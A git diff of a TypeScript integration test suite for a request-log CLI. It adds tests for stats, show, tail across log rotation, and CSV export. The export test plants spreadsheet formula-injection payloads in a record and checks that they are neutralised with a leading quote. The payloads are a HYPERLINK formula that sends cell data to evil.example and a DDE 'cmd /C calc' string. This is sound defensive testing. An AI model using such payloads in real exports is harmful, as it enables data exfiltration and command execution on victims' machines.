@@ -1,4 +1,4 @@
-import {mkdtempSync, readdirSync, readFileSync, statSync, writeFileSync} from 'node:fs'
+import {appendFileSync, mkdtempSync, readdirSync, readFileSync, readlinkSync, renameSync, statSync, writeFileSync} from 'node:fs'
 import os from 'node:os'
 import path from 'node:path'
 import {gunzipSync, gzipSync} from 'node:zlib'
@@ -9,6 +9,14 @@ import {writeRecords} from '../../src/stores/postgres/writer.js'
 import {execa} from 'execa'
 import {BIN, runCli} from '../helpers/cli.js'
 import {type TestDatabase, count, freshDatabase} from '../helpers/db.js'
+
+const readlinkSafe = (p: string) => {
+  try {
+    return readlinkSync(p)
+  } catch {
+    return ''
+  }
+}
 
 /** RFC 4180, enough for the test: quoted fields, doubled quotes, CRLF. */
 function parseCsv(text: string): string[][] {
@@ -37,6 +45,9 @@ describe('query and show (subprocess, real PostgreSQL and JSONL files)', functio
   let logDir: string
   const records = [...generateRecords({rows: 2000, days: 10, seed: 31})]
   records[3].response_body = 'a "quoted", comma\r\nand a new line'
+  // text a spreadsheet would run as a formula (CSV injection): written by strangers, exported as text
+  const FORMULAS = {user_id: '=HYPERLINK("http://evil.example/?"&A1)', user_agent: '@SUM(1+1)*cmd|\' /C calc\'!A0', session_id: '-2+3', trace_id: '+1', request_id: '\t=1'}
+  Object.assign(records[5], FORMULAS)
 
   before(async () => {
     db = await freshDatabase({migrated: true})
@@ -96,6 +107,60 @@ describe('query and show (subprocess, real PostgreSQL and JSONL files)', functio
     const empty = await runCli([...noJson, '--source', 'files', '--log-dir', mkdtempSync(path.join(os.tmpdir(), 'audit-logs-empty-'))])
     expect(empty.exitCode).to.equal(2)
     expect(empty.stderr).to.contain('holds no requests.jsonl')
+  })
+
+  it('stats --source files gives the same figures as PostgreSQL, in one pass over the files', async () => {
+    // an absolute time: the two commands run a moment apart, and "3d" would move between them
+    const since = new Date(Math.max(...records.map((r) => new Date(r.created_at as string).getTime())) - 3 * 86_400_000).toISOString()
+    for (const filter of [[], ['--path', '/api/**', '--status', '>=300'], ['--since', since, '--bucket', 'hour']]) {
+      const args = ['stats', ...filter, '--top', '1000', '--json']
+      const fromDb = await runCli(args, {env})
+      const fromFiles = await runCli([...args, '--source', 'files', '--log-dir', logDir])
+      expect(fromDb.exitCode, fromDb.stderr).to.equal(0)
+      expect(fromFiles.exitCode, fromFiles.stderr).to.equal(0)
+      const a = fromDb.json()
+      const b = fromFiles.json()
+      // the top lists' order among equal counts follows each store's collation: compared as sets
+      for (const s of [a, b]) for (const k of ['topPaths', 'topUsers', 'topIps']) s[k] = [...s[k]].sort((x: object, y: object) => JSON.stringify(x).localeCompare(JSON.stringify(y)))
+      expect(b, filter.join(' ')).to.deep.equal(a)
+      expect(a.total).to.be.greaterThan(50)
+      expect(a.topPaths.length).to.be.lessThan(1000) // every path listed, so the sets compare whole
+    }
+  })
+
+  it('show --source files finds the record PostgreSQL has; an unknown id is an error on both', async () => {
+    for (const r of [records[7], records[1500]]) {
+      const id = String(r.id)
+      const fromDb = await runCli(['show', id, '--json'], {env})
+      const fromFiles = await runCli(['show', id, '--json', '--source', 'files', '--log-dir', logDir])
+      expect(fromFiles.exitCode, fromFiles.stderr).to.equal(0)
+      const a = fromDb.json()
+      const b = fromFiles.json()
+      for (const k of ['id', 'method', 'path', 'status_code', 'request_headers', 'response_body', 'user_id', 'ip', 'flags']) expect(b[k], k).to.deep.equal(a[k])
+      expect(Date.parse(b.created_at)).to.equal(Date.parse(a.created_at))
+    }
+    const unknown = await runCli(['show', '01a20cc4-2be0-720d-89d3-7a27694234dc', '--source', 'files', '--log-dir', logDir])
+    expect(unknown.exitCode).to.equal(2)
+    expect(unknown.stderr).to.contain('No record with id')
+  })
+
+  it('CSV export neutralises cells a spreadsheet would run as formulas, from PostgreSQL and from the files', async () => {
+    const dir = mkdtempSync(path.join(os.tmpdir(), 'audit-logs-csv-formula-'))
+    const id = String(records[5].id)
+    const cols = ['user_id', 'user_agent', 'session_id', 'trace_id', 'request_id']
+    const outputs = {
+      'export (COPY)': (await runCli(['export', '--format', 'csv', '--user', FORMULAS.user_id, '--out', path.join(dir, 'a.csv')], {env}), readFileSync(path.join(dir, 'a.csv'), 'utf8')),
+      'export --source files': (await runCli(['export', '--format', 'csv', '--user', FORMULAS.user_id, '--source', 'files', '--log-dir', logDir, '--out', path.join(dir, 'b.csv')]), readFileSync(path.join(dir, 'b.csv'), 'utf8')),
+      'query --format csv': (await runCli(['query', '--format', 'csv', '--user', FORMULAS.user_id, '--columns', ['id', ...cols].join(',')], {env})).stdout,
+    }
+    for (const [how, text] of Object.entries(outputs)) {
+      const rows = parseCsv(text.endsWith('\r\n') ? text : text + '\r\n')
+      const header = rows[0]
+      const row = rows.find((r) => r[header.indexOf('id')] === id)
+      expect(row, how).to.not.equal(undefined)
+      for (const c of cols) expect(row![header.indexOf(c)], `${how}: ${c}`).to.equal(`'${FORMULAS[c as keyof typeof FORMULAS]}`)
+      if (header.includes('status_code')) expect(row![header.indexOf('status_code')], how).to.equal(String(records[5].status_code)) // numbers untouched
+    }
   })
 
   it('show ID and query --id print one full record', async () => {
@@ -191,5 +256,61 @@ describe('query and show (subprocess, real PostgreSQL and JSONL files)', functio
     expect(result.exitCode).to.equal(0)
     for (const x of fresh) expect(out).to.contain(String(x.id))
     expect(out.trim().split('\n')).to.have.length(3)
+  })
+
+  it('tail polls without piling up listeners (no MaxListenersExceededWarning however long it runs)', async () => {
+    const child = execa(process.execPath, [BIN, 'tail', '--interval', '100', '--status', '599'], {env: {...env, OCLIF_SKIP_NEW_VERSION_CHECK: '1'}, reject: false})
+    // tail's connection has run its first poll once pg_stat_activity shows it; then 3 s is about 30 polls (the warning came after the 11th)
+    const polling = async () => (await db.client.query("SELECT count(*)::int AS n FROM pg_stat_activity WHERE datname = current_database() AND pid <> pg_backend_pid() AND query LIKE 'SELECT%request_logs%'")).rows[0].n > 0
+    const end = Date.now() + 30_000
+    while (!(await polling()) && Date.now() < end) await new Promise((r) => setTimeout(r, 100))
+    expect(await polling(), 'tail never polled').to.equal(true)
+    await new Promise((r) => setTimeout(r, 3000))
+    child.kill('SIGINT')
+    const result = await child
+    expect(result.exitCode, result.stderr).to.equal(0)
+    expect(result.stderr).to.not.contain('MaxListenersExceeded').and.not.contain('memory leak')
+  })
+
+  it('tail --source files follows the current JSONL file across a rotation', async () => {
+    const dir = mkdtempSync(path.join(os.tmpdir(), 'audit-logs-tail-files-'))
+    const file = path.join(dir, 'requests.jsonl')
+    const old = records.slice(0, 5).map((r) => JSON.stringify({log_type: 'request', ...r}) + '\n').join('')
+    writeFileSync(file, old) // written before tail started: not shown
+    const child = execa(process.execPath, [BIN, 'tail', '--source', 'files', '--log-dir', dir, '--format', 'ndjson', '--interval', '100', '--method', 'GET,POST,PUT,DELETE,PATCH,HEAD,OPTIONS'], {env: {OCLIF_SKIP_NEW_VERSION_CHECK: '1'}, reject: false})
+    let out = ''
+    child.stdout!.on('data', (c: Buffer) => (out += c.toString()))
+    const lines = (from: number, to: number) => records.slice(from, to).map((r) => JSON.stringify({log_type: 'request', ...r}) + '\n').join('')
+    const shown = (from: number, to: number) => records.slice(from, to).every((r) => out.includes(String(r.id)))
+    const waitFor = async (ok: () => boolean) => {
+      const end = Date.now() + 20_000
+      while (!ok() && Date.now() < end) await new Promise((r) => setTimeout(r, 50))
+    }
+    // tail has the file open (at its end) once /proc shows it among the process's descriptors
+    const fdDir = `/proc/${child.pid}/fd`
+    const holdsFile = () => {
+      try {
+        return readdirSync(fdDir).some((fd) => readlinkSafe(path.join(fdDir, fd)) === file)
+      } catch {
+        return false
+      }
+    }
+    await waitFor(holdsFile)
+    expect(holdsFile(), 'tail never opened the file').to.equal(true)
+    // appended in pieces, one cut mid-line
+    const first = lines(10, 20)
+    appendFileSync(file, first.slice(0, 100))
+    appendFileSync(file, first.slice(100))
+    await waitFor(() => shown(10, 20))
+    // rotation: the lines written just before the rename, then the new file
+    appendFileSync(file, lines(20, 25))
+    renameSync(file, file + '.1')
+    writeFileSync(file, lines(25, 30))
+    await waitFor(() => shown(20, 30))
+    child.kill('SIGINT')
+    const result = await child
+    expect(result.exitCode, result.stderr).to.equal(0)
+    const ids = out.trim().split('\n').map((l) => JSON.parse(l).id)
+    expect(ids).to.deep.equal(records.slice(10, 30).map((r) => r.id))
   })
 })
